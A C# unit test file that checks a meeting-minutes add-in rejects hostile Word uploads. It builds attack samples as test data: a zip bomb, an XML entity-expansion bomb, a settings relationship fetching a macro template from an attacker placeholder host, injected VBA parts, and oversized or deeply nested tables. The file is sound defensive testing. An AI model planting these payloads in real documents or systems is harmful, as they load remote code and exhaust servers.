using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using static CollabAddin.Minutes.Tests.Sample;

namespace CollabAddin.Minutes.Tests;

/// <summary>Files that are not minutes, or are built to hurt: each is refused quickly, with a reason a note-taker understands.</summary>
public sealed class HostileDocumentTests
{
    /// <summary>Rewrites a package entry by entry: change, drop (null) or add entries.</summary>
    internal static byte[] Repack(byte[] docx, Func<string, byte[], byte[]?>? change = null, params (string Name, byte[] Data)[] add)
    {
        var output = new MemoryStream();
        using (var source = new ZipArchive(new MemoryStream(docx), ZipArchiveMode.Read))
        using (var target = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var entry in source.Entries)
            {
                using var read = entry.Open();
                var data = new MemoryStream();
                read.CopyTo(data);
                var bytes = change is null ? data.ToArray() : change(entry.FullName, data.ToArray());
                if (bytes is null) continue;
                using var write = target.CreateEntry(entry.FullName).Open();
                write.Write(bytes);
            }
            foreach (var (name, data) in add)
            {
                using var write = target.CreateEntry(name).Open();
                write.Write(data);
            }
        }
        return output.ToArray();
    }

    private static MinutesRejection Refusal(byte[] bytes, MinutesLimits? limits = null)
    {
        var watch = Stopwatch.StartNew();
        var error = Assert.Throws<MinutesRejectedException>(() => Read(bytes, limits: limits));
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"took {watch.Elapsed}");
        Assert.False(string.IsNullOrWhiteSpace(error.Message));
        Assert.DoesNotContain("Exception", error.Message);
        return error.Kind;
    }

    private static string Xml(byte[] bytes) => Encoding.UTF8.GetString(bytes);

    [Fact]
    public void Not_a_zip_is_not_a_document() =>
        Assert.Equal(MinutesRejection.NotADocument, Refusal(Encoding.UTF8.GetBytes("Minutes: we agreed to launch on 1 Dec.")));

    [Fact]
    public void An_empty_upload_is_not_a_document() => Assert.Equal(MinutesRejection.NotADocument, Refusal([]));

    [Fact]
    public void A_zip_without_a_word_document_inside_is_not_a_document() =>
        Assert.Equal(MinutesRejection.NotADocument, Refusal(Repack(Template(), (_, _) => null, ("notes.txt", Encoding.UTF8.GetBytes("hi")))));

    [Fact]
    public void A_truncated_file_is_broken()
    {
        var docx = Template();
        Assert.Equal(MinutesRejection.Broken, Refusal(docx[..(docx.Length / 2)]));
    }

    [Fact]
    public void A_zip_whose_directory_disagrees_with_its_entry_count_is_broken()
    {
        // Found by the publish fuzz test: the central directory is read lazily, so this used to escape as a 500.
        var docx = Template();
        var end = docx.Length - 22; // end-of-central-directory record, no zip comment
        Assert.Equal(0x06054b50, BitConverter.ToInt32(docx, end));
        docx[end + 8] ^= 0x40; // entries on this disk and in total no longer match the directory
        docx[end + 10] ^= 0x40;
        Assert.Equal(MinutesRejection.Broken, Refusal(docx));
    }

    [Fact]
    public void An_encrypted_or_irm_protected_file_is_refused()
    {
        var ole = new byte[4096];
        new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.CopyTo(ole, 0);
        Assert.Equal(MinutesRejection.Refused, Refusal(ole));
    }

    [Fact]
    public void A_macro_enabled_document_is_refused() =>
        Assert.Equal(MinutesRejection.Refused, Refusal(Repack(Template(), (name, bytes) => name == "[Content_Types].xml"
            ? Encoding.UTF8.GetBytes(Xml(bytes).Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))
            : bytes)));

    [Fact]
    public void A_document_carrying_a_vba_project_is_refused() =>
        Assert.Equal(MinutesRejection.Refused, Refusal(Repack(Template(), add: ("word/vbaProject.bin", new byte[] { 1, 2, 3 }))));

    [Fact]
    public void A_document_that_loads_a_remote_template_is_refused()
    {
        const string rels = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>""";
        Assert.Equal(MinutesRejection.Refused, Refusal(Repack(Template(), add: ("word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes(rels)))));
    }

    [Fact]
    public void An_external_hyperlink_is_fine()
    {
        const string rels = """<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://contoso.example/plan" TargetMode="External"/></Relationships>""";
        var docx = Repack(Template(), (name, bytes) => name == "word/_rels/document.xml.rels"
            ? Encoding.UTF8.GetBytes(Xml(bytes).Replace("</Relationships>", rels[(rels.IndexOf("<Relationship ", StringComparison.Ordinal))..]))
            : bytes);
        Assert.Empty(Read(docx).ActionItems);
    }

    [Fact]
    public void A_zip_bomb_is_refused_before_it_is_unpacked()
    {
        var zeros = new byte[8 * 1024 * 1024]; // compresses to a few kilobytes
        var bomb = Repack(Template(), add: [("word/media/a.bin", zeros), ("word/media/b.bin", zeros)]);
        Assert.True(bomb.Length < 200_000);
        Assert.Equal(MinutesRejection.TooLarge, Refusal(bomb, new MinutesLimits { MaxDecompressedBytes = 10 * 1024 * 1024 }));
    }

    [Fact]
    public void Millions_of_empty_paragraphs_inside_the_byte_limits_are_refused_while_counting_in_little_time_and_memory()
    {
        // The security review's document: ~31 million characters of <w:p/>, a few dozen kilobytes zipped.
        var body = new StringBuilder(32 * 1024 * 1024);
        var docx = Repack(Template(), (name, data) =>
        {
            if (name != "word/document.xml") return data;
            var xml = Xml(data);
            var at = xml.IndexOf("<w:body>", StringComparison.Ordinal) + "<w:body>".Length;
            body.Append(xml, 0, at);
            for (var i = 0; i < 31_000_000 / 6; i++) body.Append("<w:p/>");
            body.Append(xml, at, xml.Length - at);
            return Encoding.UTF8.GetBytes(body.ToString());
        });
        Assert.True(docx.Length < 1024 * 1024, $"{docx.Length} bytes zipped");
        var before = GC.GetAllocatedBytesForCurrentThread();

        Assert.Equal(MinutesRejection.TooLarge, Refusal(docx));

        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;
        Assert.True(allocated < 64 * 1024 * 1024, $"{allocated / (1024 * 1024)} MB allocated"); // the object model was never built
        var error = Assert.Throws<MinutesRejectedException>(() => Read(docx));
        Assert.Contains("far more content than any minutes", error.Message);
    }

    [Fact]
    public void A_document_just_under_the_element_limit_is_read()
    {
        var template = Template();
        var elements = CountElements(template);
        Assert.InRange(elements, 100, 20_000);
        Assert.Empty(Read(template, limits: new MinutesLimits { MaxElements = elements }).ActionItems);
        Assert.Equal(MinutesRejection.TooLarge, Refusal(template, new MinutesLimits { MaxElements = elements - 1 }));
    }

    private static int CountElements(byte[] docx)
    {
        using var zip = new ZipArchive(new MemoryStream(docx));
        return zip.Entries.Where(e => e.FullName.EndsWith(".xml", StringComparison.Ordinal) && e.FullName != "[Content_Types].xml").Sum(e =>
        {
            using var reader = System.Xml.XmlReader.Create(e.Open());
            var n = 0;
            while (reader.Read()) if (reader.NodeType == System.Xml.XmlNodeType.Element) n++;
            return n;
        });
    }

    [Fact]
    public void Too_many_parts_are_refused() =>
        Assert.Equal(MinutesRejection.TooLarge, Refusal(Repack(Template(), add: Enumerable.Range(0, 600).Select(i => ($"customXml/item{i}.xml", new byte[] { 60, 97, 47, 62 })).ToArray())));

    [Fact]
    public void A_part_stored_twice_is_broken()
    {
        var docx = Template();
        var document = new MemoryStream();
        using (var zip = new ZipArchive(new MemoryStream(docx)))
            zip.GetEntry("word/document.xml")!.Open().CopyTo(document);
        Assert.Equal(MinutesRejection.Broken, Refusal(Repack(docx, add: ("word/document.xml", document.ToArray()))));
    }

    [Fact]
    public void Xml_cut_mid_element_is_broken() =>
        Assert.Equal(MinutesRejection.Broken, Refusal(Repack(Template(), (name, bytes) => name == "word/document.xml" ? bytes[..(bytes.Length / 2)] : bytes)));

    [Fact]
    public void An_xml_entity_bomb_is_not_expanded()
    {
        const string bomb = """<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&d;&d;&d;</w:t></w:r></w:p></w:body></w:document>""";
        Assert.Equal(MinutesRejection.Broken, Refusal(Repack(Template(), (name, bytes) => name == "word/document.xml" ? Encoding.UTF8.GetBytes(bomb) : bytes)));
    }

    [Fact]
    public void A_huge_attribute_value_is_refused() =>
        Assert.Equal(MinutesRejection.TooLarge, Refusal(Repack(Template(), (name, bytes) => name == "word/document.xml"
            ? Encoding.UTF8.GetBytes(Xml(bytes).Replace("<w:body>", $"<w:body><w:p w:rsidR=\"{new string('A', 3_000_000)}\"/>"))
            : bytes), new MinutesLimits { MaxCharactersInPart = 1_000_000 }));

    [Fact]
    public void A_table_with_a_hundred_thousand_rows_is_refused()
    {
        var rows = string.Concat(Enumerable.Repeat("<w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr>", 100_000));
        var docx = Repack(Template(), (name, bytes) => name == "word/document.xml"
            ? Encoding.UTF8.GetBytes(Xml(bytes).Replace("<w:body>", $"<w:body><w:tbl><w:tblGrid><w:gridCol/></w:tblGrid>{rows}</w:tbl>"))
            : bytes);
        Assert.Equal(MinutesRejection.TooLarge, Refusal(docx));
    }

    [Fact]
    public void Deeply_nested_tables_are_refused()
    {
        var nested = "<w:p/>";
        for (var i = 0; i < 12; i++)
            nested = $"<w:tbl><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{nested}<w:p/></w:tc></w:tr></w:tbl>";
        var docx = Repack(Template(), (name, bytes) => name == "word/document.xml" ? Encoding.UTF8.GetBytes(Xml(bytes).Replace("<w:body>", "<w:body>" + nested)) : bytes);
        Assert.Equal(MinutesRejection.TooLarge, Refusal(docx));
    }
}
